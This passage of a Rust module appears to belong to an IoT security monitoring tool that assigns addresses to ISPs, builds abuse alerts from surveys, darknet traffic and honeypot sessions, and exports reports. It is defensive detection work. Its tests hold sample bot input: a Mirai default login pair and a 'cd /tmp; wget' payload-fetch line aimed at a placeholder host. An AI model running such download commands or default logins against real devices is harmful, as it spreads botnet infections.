//! Alerts for ISPs: which ISP an address belongs to (the longest matching
//! prefix of the operator's ISP table), one alert per (address, problem)
//! built from survey findings and the telescope's infected hosts, and the
//! per-ISP reports (Shadowserver-like CSV or JSON) that carry only that
//! ISP's addresses.

pub mod smtp;
pub mod webhook;

/// 128 random bits as hex ([`std::collections::hash_map::RandomState`] is
/// seeded from the system's randomness): MIME boundaries and message ids.
pub(crate) fn random_hex() -> String {
    use std::hash::{BuildHasher, Hasher};
    let half = |salt: u64| {
        let mut h = std::collections::hash_map::RandomState::new().build_hasher();
        h.write_u64(salt);
        h.finish()
    };
    format!("{:016x}{:016x}", half(1), half(2))
}

use std::net::IpAddr;

use serde::{Deserialize, Serialize};
use serde_json::Value;

/// One ISP of the operator's table (`[[isp]]` in the config).
#[derive(Clone, Debug, PartialEq, Eq, Deserialize, Serialize)]
#[serde(deny_unknown_fields)]
pub struct Isp {
    /// Stable identifier: file names, grouping, mail attachments and the
    /// web API use it. Lower-case letters, digits and `-`, 1-63 bytes; when
    /// not given it is derived from the name ([`slug`]), and a name without
    /// ASCII letters or digits must give one.
    #[serde(default)]
    pub id: Option<String>,
    /// Name (display).
    pub name: String,
    /// Its AS numbers (used once enrichment maps addresses to ASes).
    #[serde(default)]
    pub asn: Vec<u32>,
    /// Its prefixes (IPv4 or IPv6 CIDRs).
    #[serde(default)]
    pub prefixes: Vec<String>,
    /// Where its reports go.
    #[serde(default)]
    pub abuse: String,
}

/// An ISP table that cannot be used as it is.
#[derive(Debug, thiserror::Error, PartialEq, Eq)]
#[non_exhaustive]
pub enum IspError {
    /// A prefix that does not parse.
    #[error("ISP {isp:?}: prefix {prefix:?} is not a CIDR (198.51.100.0/24, 2001:db8::/32)")]
    Prefix {
        /// The ISP.
        isp: String,
        /// The prefix.
        prefix: String,
    },
    /// An id that is not lower-case letters, digits and `-`, or none can
    /// be derived from the name.
    #[error("ISP {isp:?}: id {id:?} {why}")]
    Id {
        /// The ISP.
        isp: String,
        /// The id given or derived.
        id: String,
        /// What is wrong.
        why: &'static str,
    },
    /// Two entries with one id or one name: their reports would merge.
    #[error("ISPs {first:?} and {second:?} share the {what} {value:?}: give each its own (set `id` to tell them apart)")]
    Duplicate {
        /// The earlier entry's name.
        first: String,
        /// The later entry's name.
        second: String,
        /// "id" or "name".
        what: &'static str,
        /// The shared value.
        value: String,
    },
    /// A name that is empty or holds a line break or control character (it
    /// goes into mail and onto terminals).
    #[error("ISP name {name:?} must be non-empty text without line breaks or control characters")]
    Name {
        /// The name.
        name: String,
    },
    /// An abuse address that is not an RFC 5321 mailbox.
    #[error("ISP {isp:?}: abuse address {abuse:?} {why}")]
    Abuse {
        /// The ISP.
        isp: String,
        /// The address.
        abuse: String,
        /// What is wrong.
        why: &'static str,
    },
}

/// Why `id` cannot be an ISP id, if it cannot: ids name files and groups
/// beside the reserved `unassigned` and `as<N>`.
fn id_problem(id: &str) -> Option<&'static str> {
    if id.is_empty() || id.len() > 63 {
        return Some("must be 1-63 bytes");
    }
    if !id
        .chars()
        .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-')
        || id.starts_with('-')
    {
        return Some("must be lower-case letters, digits and '-' (not first)");
    }
    let as_number = id
        .strip_prefix("as")
        .is_some_and(|n| !n.is_empty() && n.chars().all(|c| c.is_ascii_digit()));
    if id == "unassigned" || as_number {
        return Some(
            "is reserved (unassigned and as<N> name the reports of addresses no ISP holds)",
        );
    }
    None
}

impl Isp {
    /// The id ([`IspTable::new`] fills it in when it was not given).
    pub fn id(&self) -> &str {
        self.id.as_deref().unwrap_or("")
    }
}

/// IPv4 as IPv4-mapped IPv6, so one table holds both families.
fn key(ip: IpAddr) -> u128 {
    match ip {
        IpAddr::V4(a) => (0xffffu128 << 32) | u32::from(a) as u128,
        IpAddr::V6(a) => u128::from(a),
    }
}

fn parse_prefix(text: &str) -> Option<(u128, u32)> {
    let (ip, len) = match text.trim().split_once('/') {
        Some((ip, len)) => (ip.parse::<IpAddr>().ok()?, len.parse::<u32>().ok()?),
        None => {
            let ip = text.trim().parse::<IpAddr>().ok()?;
            (ip, if ip.is_ipv4() { 32 } else { 128 })
        }
    };
    let len = match ip {
        IpAddr::V4(_) if len <= 32 => len + 96,
        IpAddr::V6(_) if len <= 128 => len,
        _ => return None,
    };
    let mask = if len == 0 {
        0
    } else {
        u128::MAX << (128 - len)
    };
    Some((key(ip) & mask, len))
}

/// The ISP table with longest-prefix lookup.
#[derive(Clone, Debug, Default)]
pub struct IspTable {
    isps: Vec<Isp>,
    /// (network, length, ISP index), longest first.
    prefixes: Vec<(u128, u32, usize)>,
}

impl IspTable {
    /// Builds the table: every ISP gets its id (given, or derived from the
    /// name), and ids and names must be unique, so that one ISP's report
    /// can never hold another's addresses.
    ///
    /// # Errors
    /// [`IspError`] naming the entry (and the other one of a duplicate).
    pub fn new(mut isps: Vec<Isp>) -> Result<IspTable, IspError> {
        let mut ids: std::collections::HashMap<String, String> = Default::default();
        let mut names: std::collections::HashMap<String, String> = Default::default();
        for isp in &mut isps {
            let id = match &isp.id {
                Some(id) => id.clone(),
                None => {
                    let derived = slug(&isp.name);
                    if !isp.name.chars().any(|c| c.is_ascii_alphanumeric()) {
                        return Err(IspError::Id {
                            isp: isp.name.clone(),
                            id: derived,
                            why: "cannot be derived from a name without ASCII letters or digits: set `id`",
                        });
                    }
                    derived
                }
            };
            if let Some(why) = id_problem(&id) {
                return Err(IspError::Id {
                    isp: isp.name.clone(),
                    id,
                    why,
                });
            }
            if let Some(first) = ids.insert(id.clone(), isp.name.clone()) {
                return Err(IspError::Duplicate {
                    first,
                    second: isp.name.clone(),
                    what: "id",
                    value: id,
                });
            }
            if let Some(first) = names.insert(isp.name.clone(), isp.name.clone()) {
                return Err(IspError::Duplicate {
                    first,
                    second: isp.name.clone(),
                    what: "name",
                    value: isp.name.clone(),
                });
            }
            if isp.name.trim().is_empty() || isp.name.chars().any(char::is_control) {
                return Err(IspError::Name {
                    name: isp.name.clone(),
                });
            }
            if !isp.abuse.is_empty() {
                if let Some(why) = smtp::mailbox_problem(&isp.abuse) {
                    return Err(IspError::Abuse {
                        isp: isp.name.clone(),
                        abuse: isp.abuse.clone(),
                        why,
                    });
                }
            }
            isp.id = Some(id);
        }
        // Ids and names share one namespace: accounts and the web API's
        // filter name an ISP by either, so one ISP's name must never be
        // another's id.
        for a in &isps {
            if let Some(b) = isps.iter().find(|b| b.name != a.name && b.name == a.id()) {
                return Err(IspError::Duplicate {
                    first: a.name.clone(),
                    second: b.name.clone(),
                    what: "id and name",
                    value: b.name.clone(),
                });
            }
        }
        // One prefix in two entries would hand one ISP's addresses to
        // whichever comes first. (An AS may be shared: resellers and nested
        // ISPs often have none of their own; see `isp_for_asn`.)
        let mut prefixes = Vec::new();
        for (i, isp) in isps.iter().enumerate() {
            for p in &isp.prefixes {
                let (net, len) = parse_prefix(p).ok_or_else(|| IspError::Prefix {
                    isp: isp.name.clone(),
                    prefix: p.clone(),
                })?;
                prefixes.push((net, len, i));
            }
        }
        let mut seen: std::collections::HashMap<(u128, u32), usize> = Default::default();
        for &(net, len, i) in &prefixes {
            if let Some(&j) = seen.get(&(net, len)) {
                if j != i {
                    return Err(IspError::Duplicate {
                        first: isps[j].name.clone(),
                        second: isps[i].name.clone(),
                        what: "prefix",
                        value: isps[i]
                            .prefixes
                            .iter()
                            .find(|p| parse_prefix(p) == Some((net, len)))
                            .cloned()
                            .unwrap_or_default(),
                    });
                }
            }
            seen.insert((net, len), i);
        }
        prefixes.sort_by_key(|p| std::cmp::Reverse(p.1));
        Ok(IspTable { isps, prefixes })
    }

    /// The ISPs, in table order.
    pub fn isps(&self) -> &[Isp] {
        &self.isps
    }

    /// The ISP whose id, or else whose name, is `key` (accounts made before
    /// ids existed hold the name; names are unique too).
    pub fn by_key(&self, key: &str) -> Option<&Isp> {
        self.isps
            .iter()
            .find(|i| i.id() == key)
            .or_else(|| self.isps.iter().find(|i| i.name == key))
    }

    /// The ISP whose AS numbers include `asn` (the fallback when no prefix
    /// of the table holds an address); None when several entries list it:
    /// the AS alone cannot tell them apart, and a guess would hand one
    /// ISP's subscribers to another (such addresses go to the AS's report).
    pub fn isp_for_asn(&self, asn: u32) -> Option<&Isp> {
        let mut holders = self.isps.iter().filter(|i| i.asn.contains(&asn));
        let first = holders.next()?;
        holders.next().is_none().then_some(first)
    }

    /// The ISP of `ip`: the longest matching prefix, else the ISP of its AS.
    pub fn isp_of(&self, ip: IpAddr, asn: Option<u32>) -> Option<&Isp> {
        self.isp_for(ip)
            .or_else(|| asn.and_then(|a| self.isp_for_asn(a)))
    }

    /// The ISP whose longest prefix holds `ip`.
    pub fn isp_for(&self, ip: IpAddr) -> Option<&Isp> {
        let k = key(ip);
        self.prefixes
            .iter()
            .find(|(net, len, _)| {
                let mask = if *len == 0 {
                    0
                } else {
                    u128::MAX << (128 - len)
                };
                k & mask == *net
            })
            .map(|(_, _, i)| &self.isps[*i])
    }
}

/// A file-name-safe form of an ISP name ("Example ISP A" -> "example-isp-a").
pub fn slug(name: &str) -> String {
    let mut s = String::new();
    for c in name.chars() {
        if c.is_ascii_alphanumeric() {
            s.push(c.to_ascii_lowercase());
        } else if !s.ends_with('-') && !s.is_empty() {
            s.push('-');
        }
    }
    let s = s.trim_end_matches('-').to_string();
    if s.is_empty() {
        "isp".into()
    } else {
        s
    }
}

/// One alert: an address, a problem, and what shows it.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
pub struct Alert {
    /// Address.
    pub ip: String,
    /// The problem: a finding kind (default_credential, open_control_panel,
    /// ...) or `infected_<fingerprint>` for a host the telescope saw scanning.
    pub problem: String,
    /// Port, for survey problems.
    pub port: Option<u16>,
    /// Service module, for survey problems.
    pub service: Option<String>,
    /// Severity.
    pub severity: String,
    /// The device, when identified (JSON).
    pub device: Option<Value>,
    /// What was seen, when, by which probe or fingerprint.
    pub evidence: Value,
    /// What to pass on to the subscriber.
    pub advice: String,
    /// First seen (RFC 3339).
    pub first_seen: String,
    /// Last seen.
    pub last_seen: String,
}

/// Survey finding kinds worth an alert (info and low ones are not).
pub const ALERT_KINDS: &[&str] = &[
    "default_credential",
    "no_authentication",
    "open_control_panel",
    "anonymous_mqtt",
    "exposed_modbus",
    "exposed_telnet",
];

/// The advice passed on with each problem (English; ISPs translate).
pub fn advice(problem: &str) -> &'static str {
    match problem {
        "default_credential" => "The device accepts a factory-default ID and password. Change them, update the firmware, and turn off remote login from the Internet.",
        "no_authentication" => "The device lets anyone in without a password. Set a password or turn the service off, update the firmware, and keep it off the Internet.",
        "open_control_panel" => "A control panel that operates equipment is open to anyone. Put a login in front of it and reach it only over a VPN or the local network.",
        "anonymous_mqtt" => "The MQTT broker accepts anyone. Require a user name and password (and TLS), and do not expose port 1883.",
        "exposed_modbus" => "Modbus/TCP, which has no authentication, is reachable. Allow only your own systems to it and use a VPN for remote access.",
        "exposed_telnet" => "Telnet is reachable from the Internet. Turn it off or block ports 23/2323, and use a unique password.",
        "infected_bot" => "The device logged in to a honeypot with a default password and ran a botnet's commands: it is infected, or (for a loader) it serves malware to infected devices. Disconnect it, reboot it, change its passwords, update its firmware, and keep its telnet and SSH off the Internet.",
        p if p.starts_with("infected_") => "The device is scanning the Internet like malware-infected IoT devices do. Reboot it, change its password, update the firmware, and keep its login off the Internet.",
        _ => "Check the device's exposure and credentials.",
    }
}

/// A stored finding, as the alert builder reads it.
#[derive(Clone, Debug)]
pub struct FindingInput<'a> {
    /// Address.
    pub ip: &'a str,
    /// Port.
    pub port: u16,
    /// Service module.
    pub service: &'a str,
    /// Finding kind.
    pub kind: &'a str,
    /// Severity.
    pub severity: &'a str,
    /// Identification.
    pub device: Option<Value>,
    /// Evidence.
    pub evidence: Value,
    /// First seen.
    pub first_seen: &'a str,
    /// Last seen.
    pub last_seen: &'a str,
}

/// An alert from a stored finding, for the kinds worth one.
pub fn from_finding(f: FindingInput<'_>) -> Option<Alert> {
    let FindingInput {
        ip,
        port,
        service,
        kind,
        severity,
        device,
        evidence,
        first_seen,
        last_seen,
    } = f;
    if !ALERT_KINDS.contains(&kind) {
        return None;
    }
    // What an ISP needs to act, never the working password.
    let ev = serde_json::json!({
        "source": "survey",
        "evidence_level": EvidenceLevel::Confirmed.as_str(),
        "probe": evidence["protocol"],
        "matched": evidence["matched"],
        "user": evidence["user"],
        "ts": evidence["ts"],
    });
    Some(Alert {
        ip: ip.to_string(),
        problem: kind.to_string(),
        port: Some(port),
        service: Some(service.to_string()),
        severity: severity.to_string(),
        device,
        evidence: ev,
        advice: advice(kind).to_string(),
        first_seen: first_seen.to_string(),
        last_seen: last_seen.to_string(),
    })
}

/// How strongly an alert's evidence ties its problem to its address.
///
/// Darknet traffic is trivially spoofed: three forged SYNs with Mirai's
/// fingerprint can carry any source address. So a host seen only in the
/// darknet is [`EvidenceLevel::Observed`]; what may be mailed to an ISP
/// (and on to a subscriber) needs more than a forger gets cheaply.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum EvidenceLevel {
    /// Darknet packets only, below the persistence rule: anyone could
    /// have forged them. Listed, never mailed by default.
    Observed,
    /// Darknet packets that kept the fingerprint for long and wide enough
    /// ([`CorroborationRule`]), or a survey finding on the same address.
    Corroborated,
    /// A check of our own on the device itself (a survey finding).
    Confirmed,
}

impl EvidenceLevel {
    /// The level's name as stored ("observed", "corroborated", "confirmed").
    pub fn as_str(self) -> &'static str {
        match self {
            EvidenceLevel::Observed => "observed",
            EvidenceLevel::Corroborated => "corroborated",
            EvidenceLevel::Confirmed => "confirmed",
        }
    }

    /// The level an alert's evidence JSON records; alerts stored before
    /// levels existed count as what their source gives (survey:
    /// confirmed, telescope: observed).
    pub fn of_evidence(evidence: &Value) -> EvidenceLevel {
        match evidence["evidence_level"].as_str() {
            Some("confirmed") => EvidenceLevel::Confirmed,
            Some("corroborated") => EvidenceLevel::Corroborated,
            Some(_) => EvidenceLevel::Observed,
            None if evidence["source"] == "survey" => EvidenceLevel::Confirmed,
            None => EvidenceLevel::Observed,
        }
    }
}

/// When evidence of an infection counts as corroborated.
///
/// Darknet evidence alone: the source kept the fingerprint over several
/// buckets spread over hours and over many packets. This raises a forger's
/// cost from three packets to sustained traffic from that one address; it
/// is not proof, and the README says so. Mirai picks each destination at
/// random over the whole IPv4 space (Antonakakis et al., USENIX Security
/// 2017), so a real bot's fingerprinted SYNs keep arriving for days.
///
/// Or a survey of the address found the way in that Mirai uses (a default
/// or no password) within `max_gap_days` of the darknet activity: an open
/// port alone proves nothing, and a finding from another season says little
/// about these packets.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Deserialize, Serialize)]
#[serde(deny_unknown_fields, default)]
pub struct CorroborationRule {
    /// Buckets with fingerprinted SYNs from the source, at least.
    pub min_buckets: u64,
    /// Fingerprinted SYNs from the source, at least.
    pub min_packets: u64,
    /// Hours between the first and the last such bucket, at least.
    pub min_span_hours: u64,
    /// Days a survey finding may lie before or after the darknet activity.
    pub max_gap_days: u64,
}

impl Default for CorroborationRule {
    /// 4 buckets over at least 6 hours and 30 SYNs: a Mirai bot scanning
    /// ~100 SYN/s lands ~5 SYNs an hour in a /16 and hundreds in a /8, and
    /// keeps it up for days; a survey finding within 30 days.
    fn default() -> CorroborationRule {
        CorroborationRule {
            min_buckets: 4,
            min_packets: 30,
            min_span_hours: 6,
            max_gap_days: 30,
        }
    }
}

impl CorroborationRule {
    /// The rule in words, as alerts and reports carry it.
    pub fn describe(&self) -> String {
        format!(
            "corroborated when the source sent fingerprinted SYNs in at least {} buckets spanning at least {} hours \
             and at least {} of them, or a survey of the address found it taking a factory-default or empty credential within {} days; \
             darknet packets alone can be forged from any address, so less is only observed and is not mailed",
            self.min_buckets, self.min_span_hours, self.min_packets, self.max_gap_days
        )
    }
}

/// How long and how much a darknet source kept its fingerprint.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct Persistence {
    /// Buckets with fingerprinted SYNs from the source.
    pub buckets: u64,
    /// Fingerprinted SYNs.
    pub packets: u64,
    /// Seconds from the start of the first such bucket to the start of
    /// the last.
    pub span_secs: u64,
}

/// A survey finding on the address of an infected host.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct SurveyEvidence {
    /// Finding kind.
    pub kind: String,
    /// Port.
    pub port: u16,
    /// When it was last seen (RFC 3339).
    pub ts: String,
}

/// Finding kinds that mean "anyone can log in": a default pair works, no
/// password is asked, or any pair works (`accepts_any_credentials`, which
/// the checks report instead of `default_credential` when a random control
/// pair logs in).
pub const ANYONE_LOGS_IN: &[&str] = &[
    "default_credential",
    "no_authentication",
    "accepts_any_credentials",
];

/// Whether a re-check that found `found` on the alert's port means the
/// alert's `problem` is still there. The same kind is; and a login problem
/// is not fixed by a device that now takes any password (the checks then
/// report `accepts_any_credentials`, not the default pair).
pub fn still_present(problem: &str, found: &str) -> bool {
    problem == found || (ANYONE_LOGS_IN.contains(&problem) && ANYONE_LOGS_IN.contains(&found))
}

/// Survey finding kinds that corroborate an infection report: the device
/// at that address lets anyone in the way Mirai gets in.
pub const CORROBORATING_KINDS: &[&str] = &["default_credential", "no_authentication"];

fn epoch_secs(ts: &str) -> Option<u64> {
    humantime::parse_rfc3339_weak(ts.trim_end_matches('Z'))
        .ok()?
        .duration_since(std::time::UNIX_EPOCH)
        .ok()
        .map(|d| d.as_secs())
}

/// The evidence level of an infected host seen from `first_ts` to
/// `last_ts` (RFC 3339), with the reasons that give it.
pub fn infected_level(
    persistence: Persistence,
    survey: &[SurveyEvidence],
    window: (&str, &str),
    rule: &CorroborationRule,
) -> (EvidenceLevel, Vec<String>) {
    let mut why = Vec::new();
    if persistence.buckets >= rule.min_buckets
        && persistence.packets >= rule.min_packets
        && persistence.span_secs >= rule.min_span_hours * 3600
    {
        why.push(format!(
            "darknet: fingerprinted SYNs in {} buckets over {} hours, {} SYNs (rule: {} buckets, {} hours, {} SYNs)",
            persistence.buckets,
            persistence.span_secs / 3600,
            persistence.packets,
            rule.min_buckets,
            rule.min_span_hours,
            rule.min_packets
        ));
    }
    let (from, to) = (epoch_secs(window.0), epoch_secs(window.1));
    let gap = rule.max_gap_days * 86_400;
    for f in survey {
        let near = match (epoch_secs(&f.ts), from, to) {
            (Some(t), Some(a), Some(b)) => t + gap >= a && t <= b + gap,
            _ => false,
        };
        if CORROBORATING_KINDS.contains(&f.kind.as_str()) && near {
            why.push(format!("survey: {} on {}/tcp at {}", f.kind, f.port, f.ts));
        }
    }
    let level = if why.is_empty() {
        EvidenceLevel::Observed
    } else {
        EvidenceLevel::Corroborated
    };
    (level, why)
}

/// An alert from one of the telescope's infected hosts (its JSON), with the
/// evidence level [`infected_level`] gives it.
pub fn from_infected(
    host: &Value,
    persistence: Persistence,
    survey: &[SurveyEvidence],
    rule: &CorroborationRule,
) -> Option<Alert> {
    let ip = host["ip"].as_str()?;
    let fp = host["fingerprint"].as_str()?;
    let problem = format!("infected_{fp}");
    let window = (
        host["first_ts"].as_str().unwrap_or(""),
        host["last_ts"].as_str().unwrap_or(""),
    );
    let (level, why) = infected_level(persistence, survey, window, rule);
    let evidence = serde_json::json!({
        "source": "telescope",
        "fingerprint": fp,
        "packets": host["packets"],
        "ports": host["ports"],
        "first_ts": host["first_ts"],
        "last_ts": host["last_ts"],
        "evidence_level": level.as_str(),
        "corroboration": why,
        "fingerprint_buckets": persistence.buckets,
        "fingerprint_packets": persistence.packets,
        "fingerprint_span_hours": persistence.span_secs / 3600,
        "rule": rule.describe(),
    });
    Some(infection_alert(ip, problem, evidence, window))
}

/// One honeypot session, as the alert builder reads it.
#[derive(Clone, Debug, Default)]
pub struct HoneypotInput {
    /// The client's address.
    pub ip: String,
    /// The honeypot.
    pub sensor: String,
    /// Its session id.
    pub session: String,
    /// The pair it logged in with (sessions without a login give no alert).
    pub login: Option<(String, String)>,
    /// Lines typed at the shell.
    pub lines: Vec<String>,
    /// URLs and addresses it asked for.
    pub downloads: Vec<String>,
    /// SHA-256 of payloads it wrote.
    pub payloads: Vec<String>,
    /// SHA-256 of its shell input (the same bot script, the same hash).
    pub input_sha256: String,
    /// The scanner session a loader session is linked to, and its address.
    pub linked: Option<(String, String)>,
    /// Start and end (RFC 3339).
    pub first_seen: String,
    /// End.
    pub last_seen: String,
}

/// Whether a honeypot session ran a bot script: it logged in and asked for
/// a download, wrote a payload, or checked for a shell the way Mirai's
/// scanner and loader do (`/bin/busybox TOKEN`, an applet no BusyBox has,
/// answered `TOKEN: applet not found`; mirai/bot/scanner.c). A person who
/// logs in and looks around does none of these.
pub fn ran_bot_script(s: &HoneypotInput) -> bool {
    if s.login.is_none() {
        return false;
    }
    let busybox_token = s.lines.iter().any(|l| {
        l.split([';', '&', '|']).any(|cmd| {
            let mut w = cmd.split_whitespace();
            matches!(w.next(), Some(b) if b.rsplit('/').next() == Some("busybox"))
                && w.next().is_some_and(|t| {
                    t.len() >= 3
                        && t.bytes()
                            .all(|c| c.is_ascii_uppercase() || c.is_ascii_digit())
                })
        })
    });
    !s.downloads.is_empty() || !s.payloads.is_empty() || busybox_token
}

/// One alert per address from its honeypot sessions that ran a bot script
/// ([`ran_bot_script`]), problem `infected_bot`, evidence level
/// corroborated: a TCP session that completed a login cannot come from a
/// forged address, unlike darknet packets. Sessions of several addresses
/// in any order; at most 10 sessions, downloads and payloads listed per
/// alert (the counts are whole).
pub fn from_honeypot(sessions: &[HoneypotInput]) -> Vec<Alert> {
    let mut by_ip: std::collections::BTreeMap<&str, Vec<&HoneypotInput>> = Default::default();
    for s in sessions.iter().filter(|s| ran_bot_script(s)) {
        by_ip.entry(s.ip.as_str()).or_default().push(s);
    }
    by_ip
        .into_iter()
        .map(|(ip, ss)| {
            let first = ss.iter().map(|s| s.first_seen.as_str()).min().unwrap_or("");
            let last = ss.iter().map(|s| s.last_seen.as_str()).max().unwrap_or("");
            let mut downloads: Vec<&str> = ss.iter().flat_map(|s| s.downloads.iter().map(String::as_str)).collect();
            downloads.sort_unstable();
            downloads.dedup();
            let mut payloads: Vec<&str> = ss.iter().flat_map(|s| s.payloads.iter().map(String::as_str)).collect();
            payloads.sort_unstable();
            payloads.dedup();
            let mut pairs: Vec<String> = ss
                .iter()
                .filter_map(|s| s.login.as_ref().map(|(u, p)| format!("{u}:{p}")))
                .collect();
            pairs.sort_unstable();
            pairs.dedup();
            let role = if ss.iter().any(|s| !s.downloads.is_empty() || !s.payloads.is_empty()) {
                "loader"
            } else {
                "scanner"
            };
            let evidence = serde_json::json!({
                    "source": "honeypot",
                    "evidence_level": EvidenceLevel::Corroborated.as_str(),
                    "role": role,
                    "sessions": ss.len(),
                    "session_ids": ss.iter().take(10).map(|s| format!("{}/{}", s.sensor, s.session)).collect::<Vec<_>>(),
                    "pairs": pairs,
                    "downloads": downloads.len(),
                    "download_urls": downloads.iter().take(10).collect::<Vec<_>>(),
                    "payloads": payloads.len(),
                    "payload_sha256": payloads.iter().take(10).collect::<Vec<_>>(),
                    "script_sha256": ss.iter().map(|s| s.input_sha256.as_str()).take(10).collect::<Vec<_>>(),
                    "linked_scanners": ss.iter().filter_map(|s| s.linked.as_ref().map(|l| l.1.as_str())).collect::<Vec<_>>(),
                    "first_ts": first,
                    "last_ts": last,
                    "corroboration": ["honeypot: logged in over TCP with a default pair and ran a bot script (a completed TCP session cannot carry a forged address)"],
                });
            infection_alert(ip, "infected_bot".into(), evidence, (first, last))
        })
        .collect()
}

/// An infected host's alert: no port or service, severity high, the
/// problem's advice, seen over `(first, last)` (RFC 3339).
fn infection_alert(
    ip: &str,
    problem: String,
    evidence: Value,
    (first, last): (&str, &str),
) -> Alert {
    Alert {
        ip: ip.to_string(),
        advice: advice(&problem).to_string(),
        problem,
        port: None,
        service: None,
        severity: "high".into(),
        device: None,
        evidence,
        first_seen: first.to_string(),
        last_seen: last.to_string(),
    }
}

/// The report columns (Shadowserver-like; `asn` and the geo columns stay
/// empty until an AS table and a location database are configured).
pub const CSV_COLUMNS: &[&str] = &[
    "timestamp",
    "ip",
    "port",
    "protocol",
    "hostname",
    "tag",
    "asn",
    "geo",
    "region",
    "city",
    "device_vendor",
    "device_model",
    "device_type",
    "severity",
    "first_seen",
    "status",
    "evidence",
    "advice",
];

/// One CSV row of a report.
pub fn csv_row(a: &Alert, status: &str) -> String {
    let d = a.device.clone().unwrap_or(Value::Null);
    let s = |v: &Value| v.as_str().unwrap_or("").to_string();
    let fields = [
        a.last_seen.clone(),
        a.ip.clone(),
        a.port.map(|p| p.to_string()).unwrap_or_default(),
        if a.port.is_some() {
            "tcp".into()
        } else {
            String::new()
        },
        String::new(),
        a.problem.clone(),
        a.evidence["asn"]
            .as_u64()
            .map(|n| n.to_string())
            .unwrap_or_default(),
        s(&a.evidence["geo"]["country"]),
        s(&a.evidence["geo"]["region"]),
        s(&a.evidence["geo"]["city"]),
        s(&d["vendor"]),
        s(&d["model"]),
        s(&d["device_type"]),
        a.severity.clone(),
        a.first_seen.clone(),
        status.to_string(),
        a.evidence.to_string(),
        a.advice.clone(),
    ];
    // Realms and titles from devices reach these cells: spreadsheet-safe.
    iotscope_export::csv_line(fields.iter().map(String::as_str))
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Issue 18: a bot script from the honeypot is a corroborated
    /// infection; a person looking around, or a failed login, is nothing.
    #[test]
    fn honeypot_bots_are_corroborated_people_are_not() {
        let s = |ip: &str, login: bool, lines: &[&str], downloads: &[&str]| HoneypotInput {
            ip: ip.into(),
            sensor: "hp".into(),
            session: format!("s-{ip}-{}", lines.len()),
            login: login.then(|| ("root".to_string(), "xc3511".to_string())),
            lines: lines.iter().map(|l| l.to_string()).collect(),
            downloads: downloads.iter().map(|l| l.to_string()).collect(),
            first_seen: "2026-01-01T00:00:00Z".into(),
            last_seen: "2026-01-01T00:01:00Z".into(),
            ..Default::default()
        };
        let alerts = from_honeypot(&[
            s(
                "198.51.100.1",
                true,
                &["enable", "sh", "/bin/busybox MIRAI"],
                &[],
            ),
            s(
                "198.51.100.2",
                true,
                &["cd /tmp; wget http://x/y"],
                &["http://x/y"],
            ),
            s(
                "198.51.100.3",
                true,
                &["ls", "cat /proc/cpuinfo", "busybox ls"],
                &[],
            ),
            s("198.51.100.4", false, &[], &["http://x/y"]),
        ]);
        let ips: Vec<&str> = alerts.iter().map(|a| a.ip.as_str()).collect();
        assert_eq!(ips, vec!["198.51.100.1", "198.51.100.2"]);
        assert_eq!(alerts[0].evidence["role"], "scanner");
        assert_eq!(alerts[1].evidence["role"], "loader");
        assert_eq!(
            EvidenceLevel::of_evidence(&alerts[1].evidence),
            EvidenceLevel::Corroborated
        );
        assert_eq!(alerts[0].problem, "infected_bot");
        assert!(alerts[0].advice.contains("logged in to a honeypot"));
    }

    fn isp(name: &str, prefixes: &[&str]) -> Isp {
        Isp {
            id: None,
            name: name.into(),
            asn: vec![],
            prefixes: prefixes.iter().map(|s| s.to_string()).collect(),
            abuse: format!("abuse@{}.example", slug(name)),
        }
    }

    #[test]
    fn the_longest_prefix_wins_in_both_families() {
        let t = IspTable::new(vec![
            isp("Big", &["198.51.100.0/22", "2001:db8::/32"]),
            isp("Nested", &["198.51.101.0/24"]),
            isp("Deeper", &["198.51.101.128/25", "2001:db8:1::/48"]),
        ])
        .unwrap();
        let name = |ip: &str| t.isp_for(ip.parse().unwrap()).map(|i| i.name.clone());
        assert_eq!(name("198.51.100.1").as_deref(), Some("Big"));
        assert_eq!(name("198.51.101.1").as_deref(), Some("Nested"));
        assert_eq!(name("198.51.101.200").as_deref(), Some("Deeper"));
        assert_eq!(name("2001:db8:1::5").as_deref(), Some("Deeper"));
        assert_eq!(name("2001:db8:2::5").as_deref(), Some("Big"));
        assert_eq!(name("203.0.113.1"), None);
        // An IPv4 prefix never matches an IPv6 address of the same bits.
        assert_eq!(name("::c633:6401"), None);
        let e = IspTable::new(vec![isp("Bad", &["198.51.100.0/40"])]).unwrap_err();
        assert!(e.to_string().contains("\"Bad\""));
        assert_eq!(slug("Example ISP A"), "example-isp-a");
        assert_eq!(slug("NTT (東日本)"), "ntt");
    }

    impl Isp {
        fn with_prefix(mut self, p: &str) -> Isp {
            self.prefixes = vec![p.into()];
            self
        }
    }

    /// Issue 14: "NTT (東日本)" and "NTT (西日本)" both became ntt.csv, which
    /// held both ISPs' addresses.
    #[test]
    fn isps_that_would_share_a_report_are_refused() {
        let with_id = |name: &str, id: &str| Isp {
            id: Some(id.into()),
            ..isp(name, &[])
        };
        let e =
            IspTable::new(vec![isp("NTT (東日本)", &[]), isp("NTT (西日本)", &[])]).unwrap_err();
        assert!(matches!(e, IspError::Duplicate { what: "id", .. }), "{e}");
        assert!(
            e.to_string().contains("東日本") && e.to_string().contains("西日本"),
            "{e}"
        );
        let t = IspTable::new(vec![
            with_id("NTT (東日本)", "ntt-east"),
            with_id("NTT (西日本)", "ntt-west"),
        ])
        .unwrap();
        assert_eq!(t.isps()[1].id(), "ntt-west");
        assert_eq!(t.by_key("ntt-east").unwrap().name, "NTT (東日本)");
        assert_eq!(t.by_key("NTT (西日本)").unwrap().id(), "ntt-west");
        // All-Japanese names need an id; reserved and malformed ids are refused.
        assert!(matches!(
            IspTable::new(vec![isp("東日本電信電話", &[])]),
            Err(IspError::Id { .. })
        ));
        for bad in ["unassigned", "as64500", "Upper", "a/b", "../x", ""] {
            assert!(IspTable::new(vec![with_id("X", bad)]).is_err(), "{bad:?}");
        }
        assert!(IspTable::new(vec![isp("Unassigned", &[])]).is_err());
        assert!(IspTable::new(vec![isp("AS64500", &[])]).is_err());
        assert!(IspTable::new(vec![isp("ISP A", &[]), isp("ISP-A", &[])]).is_err());
